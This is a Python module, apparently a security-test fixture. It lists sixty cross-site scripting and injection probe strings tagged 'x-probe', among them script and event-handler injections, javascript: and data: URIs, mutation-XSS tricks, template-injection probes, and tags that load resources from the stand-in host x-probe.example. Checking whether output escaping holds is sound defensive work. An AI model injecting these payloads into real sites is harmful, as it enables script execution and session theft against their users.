"""Sixty ways to become markup, a script, a style or an address where only text was meant (X-05).

Each holds `x-probe`: as the name of an element or an attribute, in an address, or beside a handler that would call
`alert`. Whoever reads a page can tell by that whether one of them broke out.
"""

from __future__ import annotations

from typing import Final

# What opens something that swallows all the rest stands last, so that it hides none of the others beside it.
PAYLOADS: Final = (
    # an element, after leaving where text may stand
    "<x-probe>",
    "<x-probe",
    '<x-probe/xmlns="http://www.w3.org/1999/xhtml">',
    "</title><x-probe>",
    "</textarea><x-probe>",
    "</option></select><x-probe>",
    "</script><x-probe>",
    "</style><x-probe>",
    "</button></a></p><x-probe>",
    "--><x-probe>",
    "--!><x-probe>",
    "]]><x-probe>",
    # out of an attribute
    '"><x-probe>',
    "'><x-probe>",
    '" x-probe="1',
    "' x-probe='1",
    " x-probe=1 ",
    "` x-probe=`1",
    '" onmouseover="alert(\'x-probe\')" x="',
    "' onfocus='alert(\"x-probe\")' autofocus='",
    " onload=alert('x-probe') ",
    # what runs by itself
    "<script>alert('x-probe')</script>",
    "</script><script>alert('x-probe')</script>",
    "<ScRiPt src=//x-probe.example></sCrIpT>",
    "<svg onload=alert('x-probe')>",
    "<svg/onload=alert('x-probe')//",
    "<svg\fonload=alert('x-probe')>",
    "<img src=x onerror=alert('x-probe')>",
    '<img src="x"onerror="alert(\'x-probe\')"',
    "<details open ontoggle=alert('x-probe')>",
    "<iframe srcdoc=\"<script>parent.alert('x-probe')</script>\"></iframe>",
    "<object data=\"javascript:alert('x-probe')\"></object>",
    '<base href="//x-probe.example/">',
    '<meta http-equiv="refresh" content="0;url=//x-probe.example">',
    "<link rel=stylesheet href=//x-probe.example>",
    '<form action="//x-probe.example"><input name=x-probe>',
    # addresses
    "<a href=\"javascript:alert('x-probe')\">x-probe</a>",
    "javascript:alert('x-probe')",
    "java\tscript:alert('x-probe')",
    "JaVaScRiPt://x-probe.example/%0aalert(1)",
    "data:text/html,<script>alert('x-probe')</script>",
    "//x-probe.example/",
    # styles
    "}</style><x-probe>",
    "}*{background:url(//x-probe.example)}",
    ";background:url(javascript:alert('x-probe'))",
    # templates and scripts
    "{{7*191}}<x-probe>",
    "{% for x in () %}${7*191}<%= 7*191 %>#{7*191}<x-probe>",
    "\"});alert('x-probe');//",
    "';alert('x-probe');//",
    "\\\";alert('x-probe');//",
    "\\u003cx-probe\\u003e",
    # what becomes markup when it is decoded once more
    "&lt;x-probe&gt;&#60;x-probe&#x3e;",
    "%3Cx-probe%3E+ADw-x-probe+AD4-",
    "＜x-probe＞\u2028<x-probe>",
    "\u202e<x-probe>\u202c",
    # what a second reader reads otherwise than the first
    '<noscript><p title="</noscript><x-probe>">',
    "<math><mtext><table><mglyph><style><!--</style><x-probe>",
    '<svg></p><style><a title="</style><x-probe>">',
    "<![CDATA[<x-probe>]]>",
    "<!--<x-probe>",
)
PRODUCT: Final = "1337"  # what a template that reckons makes of 7*191


def chunks(number: int) -> list[str]:
    """All of them, in so many pieces that are stored one at a time."""
    return ["".join(PAYLOADS[at::number]) for at in range(number)]
